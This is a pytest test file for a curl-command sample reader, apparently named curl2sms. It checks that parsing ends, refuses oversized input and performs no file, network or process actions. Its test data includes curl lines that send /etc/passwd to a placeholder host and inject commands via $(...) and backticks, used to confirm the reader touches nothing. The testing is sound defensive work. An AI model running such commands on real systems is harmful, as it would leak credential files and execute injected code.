"""Reading always ends, and does nothing but read; tests/benchmarks says how soon it ends."""

from __future__ import annotations

import gc
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from curl2sms import reading, records
from curl2sms.errors import SampleError, Source
from curl2sms.reading.pasted import line_marks
from curl2sms.traced import written
from tests.examples import examples
from tests.reading.hostile import CALL, hostile

CORPUS = sorted((Path(__file__).parent.parent / "cases" / "corpus").glob("*/*.sh"))
HOSTILE = hostile(1 << 12)  # tests/benchmarks reads 256 KiB of each


def refused_or_read(source: Source) -> SampleError | reading.Reading:
    """What reading gives, whichever way it ends."""
    try:
        return reading.read(source)
    except SampleError as refused:
        return refused


@pytest.mark.slow
@pytest.mark.parametrize("sample", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_sample_is_read_or_refused(sample: str) -> None:
    refused_or_read(reading.decode_sample(sample.encode(), "hostile"))


TOO_LARGE = {
    "words": "too-many-words",
    "variables": "variables-too-large",
    "variables that split": "variables-too-large",
    "members": "too-many-words",
    "dollars": "variables-too-large",
    "escaped backticks": "variables-too-large",
    "variables that double": "variables-too-large",
    "members of a growing array": "variables-too-large",
}


@pytest.mark.slow
@pytest.mark.parametrize("name", TOO_LARGE)
def test_what_is_too_large_is_refused(name: str) -> None:
    found = refused_or_read(Source("large", hostile(1 << 18)[name]))
    assert isinstance(found, SampleError)
    assert found.note.id == TOO_LARGE[name]


@pytest.mark.slow
@pytest.mark.parametrize(
    "sample",
    [
        lambda count: f"curl https://x.example/ -d '{'${A}' * count}'",
        lambda count: 'A="$B $B"\n' * (count // 2) + "curl https://x.example/ -d $A",
    ],
    ids=["kept by quotes", "of several statements"],
)
def test_a_sample_puts_in_some_5000_variables_at_most(sample: Callable[[int], str]) -> None:
    for count, refused in ((4_900, ""), (5_100, "variables-too-large")):
        found = refused_or_read(Source("variables", sample(count)))
        assert (found.note.id if isinstance(found, SampleError) else "") == refused


# What is limited: how often, and how a sample with so many reads.
CONSOLE_CALL = f"{CALL}^\n-d a=b"
LIMITED: dict[str, tuple[int, Callable[[int], str]]] = {
    "words": (11_998, lambda count: CALL + " -s" * count),
    "words with quotes": (3_999, lambda count: CALL + " -'s'" * count),
    "redirections": (3_999, lambda count: CALL + " >a" * count),
    "members of an array": (12_000, lambda count: f"A=({' a' * count})\n{CALL}"),
    "calls": (500, lambda count: f"{CALL}\n" * count),
    "lines of a Windows console": (11_999, lambda count: f"{CONSOLE_CALL}\n" + "cd a\n" * count),
    "words of a Windows console": (11_996, lambda count: CONSOLE_CALL + " -s" * count),
    "calls of a Windows console": (500, lambda count: f"{CONSOLE_CALL}\n" * count),
    "quotes within words": (4_000, lambda count: f"{CALL}-d a=" + "''" * count),
    "escapes within words": (4_000, lambda count: f"{CALL}-d a=" + "\\a" * count),
    "quotes of a Windows console": (4_000, lambda count: f"{CALL}^\n-d a=" + '"b"c' * count),
    "words behind a value": (2_000, lambda count: f"{CALL}-d a=b" + " c" * count),
    "words behind a URL": (2_000, lambda count: f"{CALL[:-1]}?a=b" + " c" * count),
    "variables": (2_000, lambda count: f'{CALL}-d "' + "$A" * count + '"'),
    "substitutions": (2_000, lambda count: f'{CALL}-d "' + "`a`" * count + '"'),
    "lines of a header": (5_000, lambda count: f"{CALL}-d a=b -H '" + ";\n" * count + "'"),
    "headers": (5_000, lambda count: f"{CALL}-d a=b" + " -H a:b" * count),
}


@pytest.mark.slow
@pytest.mark.parametrize("limit", LIMITED)
def test_a_sample_has_so_many_of_something_at_most(limit: str) -> None:
    most, sample = LIMITED[limit]
    too_many = ["too-many-words", "too-many-values", "variables-too-large"]
    for count, refusals in ((most, ["", "which-command", "no-call-sends"]), (most + 1, too_many)):
        found = refused_or_read(Source("limited", sample(count)))
        assert (found.note.id if isinstance(found, SampleError) else "") in refusals


PIECES = st.sampled_from(
    [
        "curl",
        "curl.exe",
        "https://x.example/a?b=c",
        "-d",
        "-H",
        "-X",
        "-F",
        "--data",
        "--json",
        "-G",
        "-u",
        "--next",
        "--",
        "-",
        "'",
        '"',
        "`",
        "$",
        "${",
        "$(",
        "$((",
        ")",
        "}",
        "(",
        "{",
        "\\",
        "\\\n",
        "\n",
        "\r\n",
        " ",
        "\t",
        ";",
        "&",
        "&&",
        "|",
        "<",
        "<<",
        "<<<",
        "<<E",
        "E",
        ">",
        ">>",
        "#",
        "=",
        "A=",
        "$A",
        "${A:-",
        "“",
        "”",
        "‘",
        "’",
        "–",
        "—",
        "\xa0",
        "\u200b",
        "\ufeff",
        "^",
        "^\n",
        "%A%",
        "@-",
        "@f",
        ":",
        "a",
        "é",
        "export",
        "if",
        "then",
        "fi",
        "for",
        "do",
        "done",
        "echo",
        "cat",
        "base64",
        "```",
        "~",
        "*",
        "?",
        "[",
        "]",
        "!",
        "$'",
        "\\x41",
        "&amp;",
        "http://",
        "{{x}}",
        "<a>",
        "sudo",
        "$$",
        "$1",
        "&quot;",
        "eval ",
        "bash -c ",
        "${A%",
        "${A//",
        "${A:+",
        "${!A}",
        "-K - ",
        "A[1]=",
        "A=(",
        "' + '",
        '"curl ',
        '["curl", ',
        "set A=b\n",
        '$a = @"\n',
        "PS> ",
        "--% ",
        "|b",
        "#5 -d a",
        "it's ",
        '{"a": ',
        "<https://x|y>",
    ]
)
TEXTS = st.lists(PIECES | st.text(max_size=3), max_size=30).map("".join)


@examples(300)
@given(TEXTS)
@example("curl -H ")
@example("curl `")
@example("PS> curl https://x.example -d `")
@example("for\xa0")
@example("curl $(")
@example("curl https://x.example/ <<E\n")
def test_anything_is_read_or_refused_with_a_place(text: str) -> None:
    source = Source("any", text)
    found = refused_or_read(source)
    if isinstance(found, SampleError):
        assert found.note.kind == "error"
        assert found.source is source
        spans = [found.note.span]
    else:
        spans = [note.span for note in found.notes]
        assert found.request.url.startswith(("http://", "https://"))
    for span in spans:
        assert span is None or 0 <= span.start <= span.end <= len(text)


@examples(100)
@given(st.binary(max_size=60))
def test_any_bytes_are_decoded_or_refused(data: bytes) -> None:
    with suppress(SampleError):
        assert len(reading.decode_sample(data, "any").text) <= len(data)


class _Watch:
    """Writes down what the interpreter does while it is on: an audit hook can't be taken away again (PEP 578)."""

    def __init__(self) -> None:
        self.on = False
        self.seen: list[str] = []
        sys.addaudithook(self._hook)

    def _hook(self, event: str, args: tuple[object, ...]) -> None:
        if not self.on:
            return
        watched = ("subprocess.", "os.", "socket.", "exec", "open", "shutil.", "urllib.", "ctypes.")
        if event.startswith(watched):
            self.seen.append(f"{event}{args!r}"[:200])

    @contextmanager
    def watching(self) -> Iterator[list[str]]:
        self.seen = []
        self.on = True
        try:
            yield self.seen
        finally:
            self.on = False


WATCH = _Watch()


# Some of everything that a sample may hold.
WARM = """A=(1) B=2
for C in 1; do (curl https://x.example/$C "${A[0]}${D:-$(echo a | cat)}$((B+1))$1" -H 'a: ${B}' -u a:b -d @- <<E
$E
E
) ; done; cat <<< a | true
"""


@pytest.fixture(scope="module")
def everything_loaded() -> None:
    """Modules and tables are loaded, and every record has its own ``__init__``."""
    with_part = "A=$(cat <<< a)\ncurl https://x.example/ -F 'a=b;type=text/plain;filename=c'"
    for sample in (with_part, """curl https://x.example/ -d '{"a": "Don't"}'""", WARM):
        reading.read(Source("warm", sample))
    gc.unfreeze()  # conftest.py hides from the collector, and from this list, what was there at the start
    for one in gc.get_objects():
        if isinstance(one, type) and "__record_count__" in vars(one):
            vars(records)["_compile"](one)
    gc.freeze()  # the later tests are as quick as before


@pytest.mark.usefixtures("everything_loaded")
@pytest.mark.parametrize("path", CORPUS, ids=lambda path: str(path.stem))
def test_reading_a_sample_does_nothing_but_read(path: Path) -> None:
    data = path.read_bytes()
    with WATCH.watching() as seen, suppress(SampleError):
        reading.read(reading.decode_sample(data, path.name))
    assert seen == []


def test_the_watch_sees_what_it_should() -> None:
    with WATCH.watching() as seen:
        CORPUS[0].read_bytes()
    assert seen


@pytest.mark.usefixtures("everything_loaded")
@pytest.mark.parametrize(
    "sample",
    [
        "curl https://x.example -d @/etc/passwd",
        "curl -K /etc/passwd https://x.example",
        'curl https://x.example -d "$(cat /etc/passwd)"',
        "curl https://x.example -d `id`",
        "curl https://x.example -F a=@/etc/passwd",
        "curl https://x.example -T /etc/passwd",
        "curl https://x.example -b /etc/passwd -E /etc/passwd --cacert /etc/passwd -n",
        "cat < /etc/passwd | curl https://x.example -d @-",
        "source /etc/profile; curl https://x.example > /tmp/never",
    ],
)
def test_a_sample_that_wants_more_gets_nothing(sample: str) -> None:
    with WATCH.watching() as seen, suppress(SampleError):
        reading.read(Source("wants", sample))
    assert seen == []


@pytest.mark.parametrize(("count", "said"), [(400, ["line-marks"]), (600, [])])
def test_marks_are_looked_for_on_some_500_lines(count: int, said: list[str]) -> None:
    text = written("| curl x \\\n" + "| -d a=1 \\\n" * count + "| -d b=2", 0)
    assert [note.id for note in line_marks.without(text)[1]] == said
